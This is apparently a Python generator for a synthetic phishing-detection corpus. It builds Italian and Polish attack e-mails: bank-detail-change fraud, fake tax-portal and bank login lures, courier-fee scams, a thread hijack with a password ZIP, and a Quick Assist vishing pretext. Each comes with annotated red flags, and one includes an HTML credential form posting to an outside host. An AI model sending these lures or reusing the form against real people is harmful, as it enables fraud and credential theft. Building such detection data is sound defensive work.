"""Attack messages, Italian (5) and Polish (5)."""
import ids
import threads as th
import zips
from core import reg, finish
from infra import (t_postfix, t_brevo, t_aruba, t_exim, t_sendgrid, t_exo, mua_outlook16, mua_phpmailer,
                   mua_exo, mua_roundcube, mua_plain)
from mime import Text, Multi, Blob
from people import S, EG_IT_PIVA, EG_PL_NIP, FERRETTI_PIVA
from tpl import alt, mixed, mso_html, card_html, button, p, kv_table, esc, fill
from util import addr, secs, tok, digits, rfcdate

A = "attack"


# ----------------------------------------------------------------- Italian
@reg(A, "it", "ferretti-iban-lookalike")
def a_ferretti_iban(k):
    k.when("2026-10-29 11:42:10")
    acc = S("it_acc")
    rt = k.env("amministrazione@ferretti-trasporti.com", acc["addr"])
    t_postfix(rt, "mail.ferretti-trasporti.com", "51.83.177.204", rdns="vps-4a7c2e91.vps.ovh.net",
              client_helo="DESKTOP-8RQ2L7T", client_ip="93.66.118.47", client_rdns="93-66-118-47.ip84.fastwebnet.it",
              back=10)
    mua_outlook16(rt, "ferretti-trasporti.com", lang="it")
    iban = ids.iban_it("03062", "34210", "000001784512")
    text = """Spett.le Example Group Italia S.r.l.
c.a. Ufficio Amministrazione

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei nostri rapporti bancari, a far data dal 2 novembre 2026 i pagamenti delle nostre fatture dovranno essere effettuati esclusivamente sul seguente conto corrente:

Beneficiario: Ferretti Trasporti S.p.A.
Banca: CheBanca! – Filiale di Milano
IBAN: %s

Vi preghiamo di aggiornare la Vostra anagrafica fornitori e di disporre su tale conto il saldo delle fatture n. 1874/2026 del 30/09/2026 (€ 6.480,00) e n. 1921/2026 del 15/10/2026 (€ 3.915,50), già scadute. I pagamenti effettuati sul conto precedente non potranno più essere accreditati e verranno stornati dalla banca.

Per qualsiasi chiarimento Vi preghiamo di rispondere a questa e-mail: a causa del trasloco dei nostri uffici amministrativi le linee telefoniche fisse non sono temporaneamente attive.

Distinti saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Emilia Parmense 143 – 29122 Piacenza
P.IVA %s
""" % (ids.pretty(iban), FERRETTI_PIVA)
    body = alt(rt, text, mso_html(text, "IT"), "windows-1252", "quoted-printable")
    return finish(k, rt, frm=addr("Ferretti Trasporti S.p.A. - Amministrazione", "amministrazione@ferretti-trasporti.com"),
                  to=addr("Luca Esposito", acc["addr"]),
                  subject="Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.",
                  body=body,
                  what="Carrier bank-detail change: 'Ferretti Trasporti' announces a new IBAN and asks to pay two "
                       "overdue freight invoices there",
                  why="Look-alike domain ferretti-trasporti.com (genuine: .it, Aruba-hosted) on an OVH VPS; "
                      "switch of bank by e-mail only, 'phones not working', asks for confirmation by reply; "
                      "classic vendor-payment BEC (cf. genuine Ferretti invoice, business 17).")


@reg(A, "it", "sdi-notifica-scarto-phishing")
def a_sdi(k):
    k.when("2026-11-13 08:21:36")
    acc = S("it_acc")
    rt = k.env("notifiche@sdi-fatturapa-servizi.it", acc["addr"])
    t_brevo(rt)
    fname = "IT%s_0A7K3.xml.p7m" % EG_IT_PIVA
    sdi = "14837261905"
    url = "https://fatture-corrispettivi.sdi-fatturapa-servizi.it/portale/login?id=%s&p=%s" % (sdi, EG_IT_PIVA)
    inner = p("Gentile Contribuente,",
              "il file fattura trasmesso in data 12/11/2026 è stato <b>scartato</b> dal Sistema di Interscambio.") + \
        kv_table([("Nome file", fname), ("Identificativo SdI", sdi),
                  ("Codice errore", "00305 - IdFiscaleIVA del CessionarioCommittente non valido")]) + \
        p("Ai sensi della normativa vigente, la fattura scartata si considera non emessa. Il file corretto deve essere "
          "ritrasmesso <b>entro 5 giorni</b> dalla data della presente notifica, per evitare l'applicazione delle "
          "sanzioni previste dall'art. 6 del D.Lgs. 471/1997.",
          "Per visualizzare il dettaglio dello scarto e ritrasmettere il file, acceda all'area riservata "
          "&laquo;Fatture e Corrispettivi&raquo;:") + \
        button(url, "Accedi all'area riservata", "#0066cc") + \
        p("", "Accesso tramite SPID, CIE, CNS o credenziali aziendali Microsoft 365.")
    html = card_html("Notifica di scarto", inner, brand="Agenzia delle Entrate &middot; Sistema di Interscambio",
                     brand_color="#003b73", lang="it",
                     footer="Messaggio generato automaticamente dal Sistema di Interscambio. Si prega di non "
                            "rispondere a questa e-mail.")
    plain = ("Gentile Contribuente,\n\nil file fattura %s (Identificativo SdI %s) è stato scartato dal Sistema di "
             "Interscambio (codice 00305).\nIl file corretto deve essere ritrasmesso entro 5 giorni.\n\nAccedi "
             "all'area riservata: %s\n\nAgenzia delle Entrate - Sistema di Interscambio\n" % (fname, sdi, url))
    body = alt(rt, plain, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("Fatturazione Elettronica - SdI", "notifiche@sdi-fatturapa-servizi.it"),
                  to=acc["addr"], subject="Notifica di scarto - File %s - Identificativo SdI %s" % (fname, sdi),
                  body=body,
                  extra=[("List-Unsubscribe", "<https://sdi-fatturapa-servizi.it/unsub?e=%s>" % tok(k.rng, 16))],
                  what="Fake Agenzia delle Entrate SdI 'rejection notice' for an e-invoice, with a login button to a "
                       "'Fatture e Corrispettivi' clone",
                  why="Real SdI notifications arrive via PEC or the accredited channel, not from a look-alike domain "
                      "through Brevo; 5-day sanction threat; login page asks for company Microsoft 365 credentials – "
                      "credential phishing on the Italian e-invoicing system.")


@reg(A, "it", "ferretti-threadhijack-zip-password")
def a_ferretti_hijack(k):
    k.when("2026-11-18 16:52:44")
    mgr = S("it_mgr")
    rt = k.env("c.colombo@ferretti-trasporti.it", mgr["addr"])
    t_aruba(rt, "196.251.84.27", client_helo="WIN-3LQ8ORJ5N2K")
    mua_outlook16(rt, "ferretti-trasporti.it", lang="it")
    pw = "4621"
    k.files["zip_password"] = pw.encode()
    z = zips.make_zip([("DDT_firmati_sett46.pdf.js", zips.PLACEHOLDER)], k.t - secs(600), password=pw.encode(),
                      rng=k.rng)
    new = """Buongiorno Francesca,

come anticipato, Le inoltro i DDT firmati della settimana 46 e il riepilogo dei ritiri con le relative fatture di trasporto, comprese le tratte del sabato da Monza.

Per ragioni di privacy (contengono i codici dei campioni) l'archivio è protetto da password: %s

Mi conferma gentilmente la ricezione?

Cordiali saluti

Chiara Colombo
Ufficio Traffico – Logistica Sanitaria
Ferretti Trasporti S.p.A.
""" % pw
    q = "\n-----Messaggio originale-----\nDa: Francesca Galli <francesca.galli@example.com>\nInviato: venerdì 6 novembre 2026 15:12\nA: Chiara Colombo <c.colombo@ferretti-trasporti.it>\nOggetto: R: %s\n\n%s" % (th.F_SUBJ, th.F_F2_TEXT)
    q += "\n-----Messaggio originale-----\nDa: Chiara Colombo <c.colombo@ferretti-trasporti.it>\nInviato: venerdì 6 novembre 2026 09:41\nA: Francesca Galli <francesca.galli@example.com>\nOggetto: R: %s\n\n%s" % (th.F_SUBJ, th.F_C1_TEXT)
    body = mixed(rt, Text(new + q, "plain", "windows-1252", "quoted-printable"),
                 Blob(z, "application/x-zip-compressed", "DDT_firmati_sett46.zip"))
    return finish(k, rt, frm=addr("Chiara Colombo", "c.colombo@ferretti-trasporti.it"),
                  to=addr("Francesca Galli", mgr["addr"]), subject="R: " + th.F_SUBJ,
                  subj_cs=("windows-1252", "Q", None), body=body,
                  in_reply_to=th.F_F2, references=" ".join([th.F_F0, th.F_C1, th.F_F2]),
                  what="Reply in the genuine week-46 pickup thread from the carrier dispatcher's real mailbox, with a "
                       "password-protected ZIP ('signed DDTs'), password in the body",
                  why="Thread hijack from a compromised Aruba mailbox: submitted from a VPS (HELO WIN-3LQ8ORJ5N2K, "
                      "196.251.84.27) instead of Ferretti's office line; text-only reply unlike her usual Outlook "
                      "HTML; ZipCrypto archive hides a '.pdf.js' script name from scanners (inert placeholder).")


@reg(A, "it", "nas-verbale-html-login")
def a_nas(k):
    k.when("2026-11-20 10:03:17")
    mgr = S("it_mgr")
    rt = k.env("info@studiodentisticorossi-bg.it", mgr["addr"])
    t_exim(rt, "srv28.hostingsolutions.it", "89.46.108.73", "45.141.215.112", "[127.0.0.1]")
    mua_roundcube(rt, "studiodentisticorossi-bg.it", "info@studiodentisticorossi-bg.it", version="1.5.6")
    text = """Spett.le Example Group Italia S.r.l.
c.a. Legale Rappresentante / Direttore Sanitario

Si trasmette in allegato il verbale di accertamento ispettivo n. 1187/NAS-MI/2026 relativo al controllo eseguito presso la Vostra struttura sanitaria di Via Giovanni Durando 38, Milano, in materia di requisiti autorizzativi, tracciabilità dei dispositivi medici e gestione dei rifiuti sanitari pericolosi.

Il documento è riservato al legale rappresentante o a un suo delegato e deve essere visionato per presa visione entro 48 ore dalla ricezione della presente. Decorso tale termine si procederà alla notifica formale con le conseguenze previste dalla normativa vigente.

Per l'apertura del documento protetto è richiesta l'autenticazione con le credenziali della casella di posta elettronica della struttura.

Comando Carabinieri per la Tutela della Salute
Nucleo Antisofisticazioni e Sanità di Milano
"""
    page = """<!DOCTYPE html>
<html lang="it"><head><meta charset="iso-8859-1"><title>Verbale NAS-MI 1187/2026 - Documento protetto</title>
<style>
body{margin:0;background:#e9edf2;font-family:Segoe UI,Arial,sans-serif}
.doc{width:700px;margin:30px auto;background:#fff;padding:50px;filter:blur(4px);height:560px}
.login{position:absolute;top:110px;left:50%%;margin-left:-200px;width:400px;background:#fff;padding:36px 40px;box-shadow:0 2px 14px rgba(0,0,0,.25)}
.login h1{font-size:22px;font-weight:600;margin:14px 0 8px}
input{width:100%%;border:none;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:none;padding:9px 32px;font-size:15px;float:right;margin-top:12px}
.ms{font-size:17px;color:#737373;font-weight:600}
</style></head><body>
<div class="doc"><h2>MINISTERO DELLA SALUTE - COMANDO CARABINIERI PER LA TUTELA DELLA SALUTE</h2>
<p>VERBALE DI ACCERTAMENTO ISPETTIVO N. 1187/NAS-MI/2026</p><p>L'anno 2026, il giorno 17 del mese di novembre, alle ore 09:30 ...</p></div>
<div class="login">
<div class="ms">&#9632; Microsoft</div>
<h1>Accedi per visualizzare il documento</h1>
<p style="font-size:13px">Il verbale &egrave; protetto. Confermare l'identit&agrave; con la password della casella di posta.</p>
<form method="post" action="https://verbale-nas.documenti-protetti.com/auth.php">
<input type="email" name="login" value="%s" readonly>
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="doc" value="NAS-MI-1187-2026">
<button type="submit">Accedi</button>
</form>
</div></body></html>
""" % mgr["addr"]
    att = Text(page, "html", "iso-8859-1", "base64", label="ISO-8859-1", quote_cs=False,
               params=';\n name=Verbale_NAS-MI_1187_2026.html',
               disposition="attachment;\n filename=Verbale_NAS-MI_1187_2026.html;\n size=%d" % len(page))
    body = mixed(rt, Text(text, "plain", "iso-8859-1", "8bit", label="ISO-8859-1", quote_cs=False,
                          params="; format=flowed"), att)
    return finish(k, rt, frm=addr("NAS Milano - Carabinieri Tutela Salute", "info@studiodentisticorossi-bg.it"),
                  to=mgr["addr"], subject="Verbale di accertamento ispettivo n. 1187/NAS-MI/2026 - "
                                          "Example Group Italia S.r.l.",
                  body=body,
                  what="Regulator impersonation (Carabinieri NAS health inspectorate): 'inspection report' as an "
                       "HTML attachment that is a Microsoft-style login form over a blurred document",
                  why="Sent from a compromised dental practice's mailbox on shared hosting; Italian authorities "
                      "use PEC, not HTML attachments asking for mailbox passwords; 48-hour threat; HTML smuggles a "
                      "credential form (posts to verbale-nas.documenti-protetti.com, no script).")


@reg(A, "it", "brt-giacenza-pagamento")
def a_brt(k):
    k.when("2026-12-02 18:44:09")
    acc = S("it_acc")
    rt = k.env("noreply@brt-spedizioni-info.com", acc["addr"])
    t_postfix(rt, "mail.brt-spedizioni-info.com", "193.143.1.208", rdns="unknown", back=5, tls="1.3")
    mua_phpmailer(rt, "brt-spedizioni-info.com", version="6.8.1")
    sid = "068491027735"
    url = "https://brt-spedizioni-info.com/tracking/?spedizione=%s&c=%s" % (sid, tok(k.rng, 8))
    inner = p("Gentile cliente,",
              "la spedizione a Lei indirizzata <b>n. %s</b> non è stata consegnata per indirizzo incompleto "
              "(numero civico mancante) ed è attualmente in giacenza presso la filiale di Milano Nord." % sid,
              "Per riprogrammare la consegna è necessario confermare l'indirizzo e versare il contributo di "
              "riconsegna di <b>€ 1,99</b> entro 48 ore. Trascorso tale termine la spedizione verrà restituita al "
              "mittente.") + kv_table([("Mittente", "Amazon EU S.à r.l."), ("Colli", "1"), ("Peso", "2,4 kg")]) + \
        button(url, "Riprogramma la consegna", "#c8102e") + p("", "Grazie per aver scelto BRT.")
    html = fill(card_html("BRT - Spedizione in giacenza", inner, brand="BRT", brand_color="#c8102e", lang="it",
                          footer="BRT S.p.A. - Via E. Mattei 42 - 40138 Bologna - P.IVA 04507990150<br>"
                                 "Questa e-mail è generata automaticamente."), "utf-8")
    body = Text(html, "html", "utf-8", "base64")
    return finish(k, rt, frm=addr("BRT - Servizio Clienti", "noreply@brt-spedizioni-info.com"), to=acc["addr"],
                  subject="La Sua spedizione %s è in giacenza - azione richiesta" % sid, body=body,
                  what="Courier impersonation (BRT): parcel held for incomplete address, pay EUR 1.99 re-delivery fee",
                  why="Look-alike domain on a bare VPS without rDNS, PHPMailer; small-fee card-harvesting lure "
                      "with 48-hour deadline; unrelated to any order of the recipient.")


# ----------------------------------------------------------------- Polish
@reg(A, "pl", "ksef-faktura-odrzucona")
def a_ksef(k):
    k.when("2026-11-17 09:12:51")
    acc = S("pl_acc")
    rt = k.env("powiadomienia@ksef-aplikacja-podatnika.pl", acc["addr"])
    t_sendgrid(rt, "ksef-aplikacja-podatnika.pl")
    nip = "%s-%s-%s-%s" % (EG_PL_NIP[:3], EG_PL_NIP[3:6], EG_PL_NIP[6:8], EG_PL_NIP[8:])
    url = "https://ksef-aplikacja-podatnika.pl/web/logowanie?nip=%s&ref=%s" % (EG_PL_NIP, tok(k.rng, 12))
    inner = p("Szanowni Państwo,",
              "faktura ustrukturyzowana wystawiona przez podmiot <b>EXAMPLE GROUP POLSKA SP. Z O.O.</b> (NIP %s) "
              "została <b>odrzucona</b> przez Krajowy System e-Faktur." % nip) + \
        kv_table([("Numer faktury", "FA/2026/11/0218"), ("Data przesłania", "16.11.2026, 14:22"),
                  ("Kod błędu", "450 – Błąd weryfikacji semantyki dokumentu FA(3)")]) + \
        p("Faktura odrzucona przez KSeF nie jest uznawana za wystawioną. Aby uniknąć konsekwencji wynikających z "
          "nieterminowego wystawienia faktury, prosimy o zalogowanie się do Aplikacji Podatnika KSeF i ponowne "
          "przesłanie dokumentu w terminie <b>3 dni roboczych</b>.") + \
        button(url, "Zaloguj się do Aplikacji Podatnika KSeF", "#d21e2b") + \
        p("", "Logowanie profilem zaufanym, podpisem kwalifikowanym lub kontem Microsoft 365 organizacji.")
    html = card_html("KSeF - faktura odrzucona", inner, brand="Krajowy System e-Faktur", brand_color="#1b365d",
                     lang="pl", footer="Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.<br>"
                                       "Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa")
    plain = ("Szanowni Państwo,\n\nfaktura FA/2026/11/0218 wystawiona przez EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s) "
             "została odrzucona przez KSeF (kod 450).\nProsimy o ponowne przesłanie w terminie 3 dni roboczych:\n%s\n\n"
             "Krajowy System e-Faktur\n" % (nip, url))
    body = alt(rt, plain, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-aplikacja-podatnika.pl"),
                  to=acc["addr"], subject="KSeF: faktura FA/2026/11/0218 została odrzucona – wymagane ponowne "
                                          "przesłanie", body=body,
                  what="Fake KSeF (Polish national e-invoicing system, mandatory since 2026) rejection notice with a "
                       "login button",
                  why="The Ministry of Finance does not e-mail rejections from look-alike domains via SendGrid; "
                      "3-day sanction pressure; login page also offers 'Microsoft 365 organisation account' – "
                      "credential harvesting themed on the 2026 KSeF roll-out.")


@reg(A, "pl", "partner-logistik-lookalike-rachunek")
def a_partner(k):
    k.when("2026-11-23 08:37:26")
    acc = S("pl_acc")
    rt = k.env("t.zielinski@partner-logistic.pl", acc["addr"])
    t_postfix(rt, "mail.partner-logistic.pl", "185.209.179.44", rdns="vmi1847261.contaboserver.net",
              client_helo="DESKTOP-TZ3PL09", client_ip="83.6.201.117",
              client_rdns="83.6.201.117.ipv4.supernova.orange.pl", back=12)
    mua_outlook16(rt, "partner-logistic.pl", lang="pl")
    iban = ids.iban_pl("1870010", "2222000155559021")
    text = """Dzień dobry Panie Pawle,

w związku z trwającą kontrolą celno-skarbową nasz dotychczasowy rachunek w ING Banku Śląskim został czasowo zablokowany. Do czasu zakończenia postępowania prosimy o regulowanie wszystkich należności, w tym zaległej faktury FV/2026/10/0391 na kwotę 38 412,60 zł, na nasz rachunek pomocniczy:

Partner Logistik sp. z o.o.
Nest Bank S.A.
%s

Rachunek jest w trakcie zgłaszania do wykazu podatników VAT (tzw. białej listy) – aktualizacja w systemie Ministerstwa Finansów potrwa kilka dni, ale przelew można zlecić już dziś.

Będę wdzięczny za potwierdzenie zlecenia przelewu mailowo – jestem dziś cały dzień na magazynie w Gliwicach i mam słaby zasięg.

Z poważaniem

Tadeusz Zieliński
Prezes Zarządu
Partner Logistik sp. z o.o.
ul. Półłanki 64, 30-740 Kraków
""" % ids.pretty(iban)
    body = alt(rt, text, mso_html(text, "PL"), "windows-1250", "quoted-printable")
    return finish(k, rt, frm=addr("Tadeusz Zieliński", "t.zielinski@partner-logistic.pl", "windows-1250", "Q"),
                  to=addr("Paweł Łukasik", acc["addr"], "windows-1250", "Q"),
                  subject="Pilne: zmiana rachunku bankowego - Partner Logistik sp. z o.o.",
                  subj_cs=("windows-1250", "Q", None), body=body,
                  what="Logistics partner's MD 'Tadeusz Zieliński' announces a temporary account (blocked by a tax "
                       "audit) and asks to pay PLN 38,412.60 there today",
                  why="Look-alike domain partner-logistic.pl ('c' for 'k') on a Contabo VPS; new account admittedly "
                      "not yet on the VAT white list (paying it breaks Polish split-payment/white-list rules); "
                      "unreachable by phone; genuine change (business 23) is announced differently.")


@reg(A, "pl", "inpost-doplata-paczka")
def a_inpost(k):
    k.when("2026-11-26 17:21:40")
    mgr = S("pl_mgr")
    rt = k.env("kontakt@kwiaciarnia-magnolia-lublin.pl", mgr["addr"])
    t_exim(rt, "s49.cyber-folks.pl", "195.78.67.112", "104.234.10.66", "kwiaciarnia-magnolia-lublin.pl")
    mua_phpmailer(rt, "kwiaciarnia-magnolia-lublin.pl", version="6.9.1")
    num = "662048310059274118632107"
    url = "https://inpost-paczka-doplata.com/pl/sledzenie/?nr=%s&t=%s" % (num, tok(k.rng, 10))
    inner = p("Cześć!",
              "Twoja przesyłka nr <b>%s</b> nie mogła zostać umieszczona w Paczkomacie z powodu niepełnych danych "
              "adresowych." % num,
              "Aby ustalić nowy termin doręczenia, potwierdź dane i uiść dopłatę w wysokości <b>1,98 zł</b> w ciągu "
              "24 godzin. Po tym czasie paczka zostanie zwrócona do nadawcy.") + \
        button(url, "Potwierdź i zapłać", "#ffcd00", "#1d1d1b") + p("", "Pozdrawiamy,<br>Zespół InPost")
    html = fill(card_html("InPost - dopłata", inner, brand="InPost", brand_color="#1d1d1b", lang="pl",
                          footer="InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków. Wiadomość wysłana automatycznie."),
                "utf-8")
    body = Text(html, "html", "utf-8", "base64")
    return finish(k, rt, frm=addr("InPost", "kontakt@kwiaciarnia-magnolia-lublin.pl"), to=mgr["addr"],
                  subject="Twoja paczka czeka - wymagana dopłata 1,98 zł", subj_cs=("utf-8", "B", None), body=body,
                  what="Courier impersonation (InPost parcel locker): tiny surcharge of PLN 1.98 to release a parcel",
                  why="Brand in the display name only, sent with PHPMailer from a compromised florist's web "
                      "hosting; payment link on inpost-paczka-doplata.com (card/BLIK phishing); 24-hour deadline.")


@reg(A, "pl", "teams-helpdesk-vishing-quickassist")
def a_vish(k):
    k.when("2026-12-01 09:48:12")
    mgr = S("pl_mgr")
    rt = k.env("servicedesk@itwsparcie-examplegroup.onmicrosoft.com", mgr["addr"])
    t_exo(rt, "AS8PR07MB%04d" % 7719, "PAXPR07MB%04d" % 8025, "eurprd07", out="eur03")
    subj = "Zgłoszenie INC0048213: blokada fali spamu na Pani skrzynce"
    mua_exo(rt, "AS8PR07MB7719", "eurprd07", subj, lang_tag="pl-PL")
    text = """Dzień dobry Pani Katarzyno,

nasze systemy wykryły dziś rano masową wysyłkę niechcianych wiadomości (tzw. spam bombing) na Pani skrzynkę pocztową. Aby zatrzymać atak, konieczna jest ponowna konfiguracja filtra poczty na Pani komputerze.

W ciągu najbliższych 15 minut technik naszego działu skontaktuje się z Panią przez Microsoft Teams (konto „IT Service Desk”). Prosimy o przyjęcie połączenia i uruchomienie aplikacji Szybka pomoc (Quick Assist) – technik poda Pani sześciocyfrowy kod zabezpieczający, który należy wpisać, aby udostępnić ekran.

Prosimy nie wyłączać komputera i nie usuwać wiadomości do czasu zakończenia interwencji.

Z pozdrowieniami
Dział IT – Service Desk
Example Group
"""
    body = alt(rt, text, mso_html(text, "PL"), "utf-8", "base64")
    return finish(k, rt, frm=addr("Dział IT – Service Desk", "servicedesk@itwsparcie-examplegroup.onmicrosoft.com",
                                  "utf-8", "B"),
                  to=addr("Wójcik, Katarzyna", mgr["addr"], "utf-8", "B"), subject=subj, body=body,
                  what="Help-desk vishing set-up: after an e-mail bombing, 'IT Service Desk' announces a Teams call "
                       "and asks to start Quick Assist and enter a code",
                  why="External Microsoft 365 tenant (itwsparcie-examplegroup.onmicrosoft.com) posing as internal IT; "
                      "remote-access pretext used by ransomware crews (Black Basta/Storm-1811 pattern); internal IT "
                      "tickets come from the internal helpdesk system (cf. business 26).")


@reg(A, "pl", "pko-bp-ipko-biznes-autoryzacja")
def a_pko(k):
    k.when("2026-11-24 12:16:05")
    acc = S("pl_acc")
    rt = k.env("biuro@kancelaria-nowicki.com.pl", acc["addr"])
    t_exim(rt, "serwer2185417.home.pl", "46.242.244.23", "89.185.85.190", "[192.168.8.100]")
    mua_phpmailer(rt, "kancelaria-nowicki.com.pl", version="6.5.0")
    url = "https://ipkobiznes-autoryzacja.com/logowanie?ref=%s" % tok(k.rng, 14)
    inner = p("Szanowni Państwo,",
              "w związku z wdrożeniem nowych wymogów bezpieczeństwa dotyczących autoryzacji transakcji, od "
              "<b>1 grudnia 2026 r.</b> dotychczasowe metody autoryzacji w serwisie iPKO biznes przestaną być "
              "obsługiwane.",
              "Aby zachować dostęp do rachunków firmowych, każdy użytkownik uprawniony do akceptowania przelewów musi "
              "potwierdzić urządzenie autoryzujące do <b>30 listopada 2026 r.</b> Brak potwierdzenia spowoduje "
              "czasowe zablokowanie możliwości realizacji przelewów.") + \
        button(url, "Potwierdź urządzenie", "#004c9a") + \
        p("", "Z poważaniem<br>Zespół Bankowości Elektronicznej<br>PKO Bank Polski")
    html = fill(card_html("iPKO biznes", inner, brand="PKO BANK POLSKI", brand_color="#003574", lang="pl",
                          footer="PKO Bank Polski S.A., ul. Puławska 15, 02-515 Warszawa. Wiadomość wygenerowana "
                                 "automatycznie."), "iso-8859-2")
    body = Text(html, "html", "iso-8859-2", "quoted-printable")
    return finish(k, rt, frm=addr("PKO Bank Polski", "biuro@kancelaria-nowicki.com.pl"), to=acc["addr"],
                  subject="iPKO biznes: wymagane potwierdzenie urządzenia autoryzującego do 30.11.2026",
                  subj_cs=("iso-8859-2", "Q", None), body=body,
                  what="Bank impersonation (PKO BP iPKO biznes): confirm the authorisation device by 30 Nov or "
                       "transfers are blocked",
                  why="Sent from a compromised law office's home.pl hosting with PHPMailer; link to "
                      "ipkobiznes-autoryzacja.com; deadline/blocking threat aimed at the person who approves "
                      "corporate transfers – banking credential phishing.")
